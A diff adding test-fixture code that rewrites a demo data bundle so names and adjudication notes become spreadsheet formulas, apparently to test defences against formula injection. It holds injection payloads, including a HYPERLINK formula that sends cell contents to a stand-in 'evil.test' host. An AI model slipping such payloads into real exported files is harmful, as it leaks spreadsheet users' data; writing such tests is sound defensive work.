@@ -87,3 +87,43 @@ def load_project(url: str, root: Path) -> dict[tuple[str, str], str]:
     scoring.set_pair(engine, lead, a, b)
     adjudication.create_plan(engine, lead, judge_a=a, judge_b=b, seed=0, name=PLAN + " live")
     return names
+
+
+# ----------------------------------------------------------------------------- formula names (issue 34 item 6)
+
+FORMULA_PREFIXES = ("=", "+", "-", "@")
+FORMULA_NOTE = '=HYPERLINK("http://note.evil.test/?"&A1,"Click")'
+
+
+def formula(value: str, k: int) -> str:
+    """``value`` turned into spreadsheet formula text: one of ``= + - @`` in front, then a formula."""
+    p = FORMULA_PREFIXES[k % len(FORMULA_PREFIXES)]
+    return f'{p}HYPERLINK("http://{k}.evil.test/")&"{value}"' if p == "=" else f"{p}1+1|{value}"
+
+
+def write_formula_bundle(dest: Path) -> dict[tuple[str, str], str]:
+    """The demo bundle under ``dest`` with every name a spreadsheet would run as a formula (models,
+    judges, question and instruction keys, task types, domains, annotators, the plan) and every
+    adjudication note a ``=HYPERLINK`` formula; returns (tag, old name) → new name."""
+    from reform_core.demo import bundle_dir
+
+    src = Path(bundle_dir())
+    dest.mkdir(parents=True)
+    names: dict[tuple[str, str], str] = {}
+
+    def rename(name: str, field: str, value):
+        tag = _FIELDS.get(f"{field}@{name}") or _FIELDS.get(field)
+        if tag is None or not isinstance(value, str) or not value:
+            return value
+        return names.setdefault((tag, value), formula(value, len(names)))
+
+    for f in sorted(src.iterdir()):
+        if f.suffix == ".jsonl":
+            rows = [json.loads(line) for line in f.read_text().splitlines() if line.strip()]
+            rows = [{k: rename(f.name, k, v) for k, v in r.items()} for r in rows]
+            if f.name == "adjudications.jsonl":
+                rows = [{**r, "note": FORMULA_NOTE} for r in rows]
+            (dest / f.name).write_text("".join(json.dumps(r) + "\n" for r in rows))
+        else:
+            shutil.copy(f, dest / f.name)
+    return names
